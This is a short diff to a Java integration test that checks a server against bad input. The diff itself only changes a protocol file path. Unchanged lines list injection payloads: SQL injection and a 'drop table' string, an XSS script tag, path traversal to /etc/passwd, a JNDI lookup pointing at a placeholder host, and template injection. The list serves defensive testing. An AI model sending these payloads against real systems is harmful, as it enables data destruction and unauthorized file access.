@@ -43,7 +43,7 @@ import org.tuneloop.server.InProcessServer.As;
  */
 @ExtendWith(VertxExtension.class)
 class BadInputProofIT {
-  private static final String PILOT = StudyCommand.resource("/study-protocols/pilot.yaml");
+  private static final String PILOT = StudyCommand.resource("/protocols/pilot-training-only.yaml");
   private static final List<String> INJECTIONS = List.of("' or '1'='1", "'; drop table events; --", "<script>alert(1)</script>",
       "../../../../etc/passwd", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "%00", "\u0000", "\u202e\ud83c\udfb5",
       "x".repeat(5_000));
